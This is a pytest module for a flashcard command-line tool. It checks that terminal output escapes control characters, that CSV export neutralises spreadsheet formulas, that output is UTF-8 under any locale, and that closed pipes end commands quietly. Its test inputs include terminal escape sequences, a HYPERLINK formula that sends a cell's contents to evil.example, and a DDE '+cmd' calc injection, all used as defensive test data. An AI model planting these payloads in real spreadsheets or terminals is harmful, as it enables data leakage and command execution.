"""SPEC 5 and 6 on what commands print: control characters from file names, stored answers and
the store are shown as visible escapes on a terminal (JSON stays exact JSON), a CSV cell never
runs as a spreadsheet formula, output is UTF-8 under any locale, and a reader that goes away
(``| head -1``) ends a command quietly.

The store under test is filled the way a trainee fills it: ``drill run --headless`` with JSON
answer lines holding escape sequences, formulas and Chinese text.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import sqlite3
import subprocess
import sys
import tty
from pathlib import Path

import pytest

from .harness import DB_NAME, REPO, clean_env

RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
"""What must never reach a terminal raw (newline and tab may)."""
HOSTILE_ANSWERS = [
    "\x1b[2J\x1b[Hscreen cleared",
    "\x1b]0;pwned\x07",
    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31mred",
    "del\x7f",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tindented",
    "-5",
    "+1.5e3",
    "您好",
]
"""Answers to the typed cards t0... in order; the last three are plain (a number, Chinese)."""
DECK_TEXT = "id: out\ntitle: 输出 Output\nlanguage: zh-CN\ncards:\n" + "".join(
    f"  - {{id: t{i}, prompt: Type {i}, answer: right{i}}}\n" for i in range(len(HOSTILE_ANSWERS))
)
BAD_NAME = "bad\x1b]0;pwned\x07\x1b[2J.yaml"
"""A deck file name with escape sequences in it (a file name may hold any byte but / and NUL)."""


def drill(home: Path, *args: str, env: dict[str, str] | None = None, **kwargs):
    return subprocess.run(
        [sys.executable, "-m", "drill", "--data-dir", str(home), *args],
        capture_output=True, env=env or clean_env(), cwd=REPO, timeout=60, **kwargs,
    )  # fmt: skip


@pytest.fixture(scope="module")
def filled(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """(data directory, deck folder): a store holding ``HOSTILE_ANSWERS`` in card order, and
    a folder with the deck and a broken deck whose file name holds escape sequences."""
    root = tmp_path_factory.mktemp("output")
    folder = root / "decks"
    folder.mkdir()
    (folder / "out.yaml").write_text(DECK_TEXT, encoding="utf-8")
    (folder / BAD_NAME).write_text("id: 坏\ntitle: T\ncards: [{front: a, back: b}]\n")
    home = root / "home"
    lines = "".join(json.dumps({"answer": a, "latency_ms": 1000}) + "\n" for a in HOSTILE_ANSWERS)
    ran = drill(home, "run", str(folder / "out.yaml"), "--headless", "--mode", "review",
                "--new", "100", "--seed", "1", input=lines.encode())  # fmt: skip
    assert ran.returncode == 0, ran.stderr
    with sqlite3.connect(home / DB_NAME) as conn:
        stored = [a for (a,) in conn.execute("SELECT answer FROM answers ORDER BY card")]
        # A deck id as only another program (or a hand edit) could store it.
        for deck, card in (("x\x1b[2Jy", "t0"), ("中文", "t1")):
            # The answers, the card's state with its counters, and the deck's totals alike.
            conn.execute("UPDATE answers SET deck = ? WHERE card = ?", (deck, card))
            conn.execute("UPDATE card_states SET deck = ? WHERE card = ?", (deck, card))
            conn.execute(
                "INSERT INTO deck_totals SELECT learner, ?, sessions, last_active, NULL"
                " FROM deck_totals WHERE deck = 'out'",
                (deck,),
            )
    conn.close()
    assert sorted(stored) == sorted(HOSTILE_ANSWERS)
    return home, folder


def on_a_terminal(home: Path, *args: str, env: dict[str, str] | None = None, code: int = 0) -> str:
    """stdout of ``drill ARGS`` written to a pseudo-terminal (raw: no newline translation);
    stderr (a pipe here) holds nothing raw either."""
    leader, follower = pty.openpty()
    tty.setraw(follower)
    proc = subprocess.Popen(
        [sys.executable, "-m", "drill", "--data-dir", str(home), *args], stdin=subprocess.DEVNULL,
        stdout=follower, stderr=subprocess.PIPE, env=env or clean_env(), cwd=REPO,
    )  # fmt: skip
    os.close(follower)
    chunks = []
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # EIO: the terminal's last writer is gone
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(leader)
    assert proc.stderr is not None
    err = proc.stderr.read().decode("utf-8")
    proc.stderr.close()
    assert proc.wait(timeout=60) == code, err
    assert_no_raw_control(err, f"stderr of {args}")
    return b"".join(chunks).decode("utf-8")


def assert_no_raw_control(text: str, label: str) -> None:
    found = RAW_CONTROL.findall(text)
    assert not found, (label, found, text[:500])


TEXT_COMMANDS = {
    "decks": ["decks"],
    "validate": ["validate", "{folder}"],
    "stats": ["stats"],
    "export csv": ["export"],
}


@pytest.mark.parametrize("command", TEXT_COMMANDS)
def test_terminal_output_shows_control_characters_as_escapes(command: str, filled):
    home, folder = filled
    args = [a.replace("{folder}", str(folder)) for a in TEXT_COMMANDS[command]]
    code = 1 if command == "validate" else 0
    shown = on_a_terminal(home, *args, env=clean_env(DRILL_DECKS=str(folder)), code=code)
    assert_no_raw_control(shown, command)
    if command in ("decks", "validate"):
        assert "bad\\x1b]0;pwned\\x07\\x1b[2J.yaml" in shown, shown
    if command == "stats":
        assert "x\\x1b[2Jy" in shown, shown
    if command == "export csv":
        assert "\\x1b[2J\\x1b[Hscreen cleared" in shown and "\\x9b31mred" in shown, shown


@pytest.mark.parametrize(
    "args", [["decks", "--json"], ["stats", "--json"], ["export", "--format", "json"]]
)
def test_json_output_is_exact_and_never_carries_a_raw_control_character(args, filled):
    home, folder = filled
    shown = on_a_terminal(home, *args, env=clean_env(DRILL_DECKS=str(folder)))
    assert_no_raw_control(shown, args[0])
    data = json.loads(shown)
    if args[0] == "decks":
        assert str(folder / BAD_NAME) in {entry["path"] for entry in data}
    elif args[0] == "stats":
        assert "x\x1b[2Jy" in {entry["deck"] for entry in data["decks"]}
    else:
        assert sorted(a["answer"] for a in data) == sorted(HOSTILE_ANSWERS)


def test_csv_export_defuses_formulas_and_keeps_plain_numbers(filled, tmp_path: Path):
    """SPEC 5: a cell starting with =, +, -, @, tab or CR gets a leading ' unless it is a plain
    number; written to a file (not a terminal) every other byte is the trainee's."""
    home, _ = filled
    out = tmp_path / "answers.csv"
    assert drill(home, "export", "-o", str(out)).returncode == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    by_card = {row["card"]: row["answer"] for row in rows}
    exported = [by_card[f"t{i}"] for i in range(len(HOSTILE_ANSWERS))]
    expected = [
        "'" + a if a[0] in "=+-@\t\r" and a not in ("-5", "+1.5e3") else a for a in HOSTILE_ANSWERS
    ]
    assert exported == expected
    assert exported[5].startswith("'=HYPERLINK(") and exported[10] == "-5"
    piped = drill(home, "export")  # a pipe is not a terminal: exact, but for the formulas
    assert piped.stdout.decode("utf-8") == out.read_text(encoding="utf-8")


LOCALES = {
    "PYTHONIOENCODING=ascii": {"PYTHONIOENCODING": "ascii"},
    "LC_ALL=C PYTHONUTF8=0": {"LC_ALL": "C", "LANG": "C", "PYTHONUTF8": "0"},
}
ENCODED_COMMANDS = {
    "decks": ["decks"],
    "decks --json": ["decks", "--json"],
    "validate": ["validate", "{folder}"],
    "stats": ["stats"],
    "export": ["export"],
    "export json": ["export", "--format", "json"],
}


@pytest.mark.parametrize("command", ENCODED_COMMANDS)
@pytest.mark.parametrize("locale", LOCALES)
def test_every_command_prints_utf8_under_any_locale(locale: str, command: str, filled):
    """Chinese titles and answers under an ASCII locale: UTF-8 on stdout (as headless does),
    never a UnicodeEncodeError."""
    home, folder = filled
    args = [a.replace("{folder}", str(folder)) for a in ENCODED_COMMANDS[command]]
    env = clean_env(DRILL_DECKS=str(folder), **LOCALES[locale])
    ran = drill(home, *args, env=env)
    err = ran.stderr.decode("utf-8")
    assert ran.returncode == (1 if command == "validate" else 0), err
    assert "Traceback" not in err and "Error" not in err, err
    out = ran.stdout.decode("utf-8")  # raises if it is not UTF-8
    expected = {"validate": "坏", "stats": "中文", "export": "您好", "export json": "您好"}
    assert expected.get(command, "输出") in out, out


PIPED_COMMANDS = {
    "--help": ["--help"],
    "--version": ["--version"],
    "run --help": ["run", "--help"],
    "decks": ["decks"],
    "decks --json": ["decks", "--json"],
    "validate": ["validate", "{folder}"],
    "stats": ["stats"],
    "stats --json": ["stats", "--json"],
    "export": ["export"],
    "export json": ["export", "--format", "json"],
    "schema": ["schema"],
}


@pytest.mark.parametrize("buffering", ["buffered", "PYTHONUNBUFFERED"])
@pytest.mark.parametrize("when", ["before-any-output", "after-one-line"])
@pytest.mark.parametrize("command", PIPED_COMMANDS)
def test_a_reader_that_goes_away_ends_a_command_quietly(
    command: str, when: str, buffering: str, filled
):
    """``drill export | head -1``: exit 0 or 141 (a writer stopped by SIGPIPE), and nothing on
    stderr; it was 130 ("interrupted") with a StoreError about a closed database."""
    home, folder = filled
    args = [a.replace("{folder}", str(folder)) for a in PIPED_COMMANDS[command]]
    unbuffered = {"PYTHONUNBUFFERED": "1"} if buffering == "PYTHONUNBUFFERED" else {}
    proc = subprocess.Popen(
        [sys.executable, "-m", "drill", "--data-dir", str(home), *args],
        stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        env=clean_env(DRILL_DECKS=str(folder), **unbuffered), cwd=REPO,
    )  # fmt: skip
    assert proc.stdout is not None and proc.stderr is not None
    if when == "after-one-line":
        proc.stdout.readline()
    proc.stdout.close()
    status = proc.wait(timeout=60)
    err = proc.stderr.read().decode("utf-8")
    proc.stderr.close()
    # validate exits 1 for the broken deck when it wrote everything before the reader left
    assert status in (1 if command == "validate" else 0, 141), (status, err)
    assert err == "" or (command == "validate" and status == 1), err
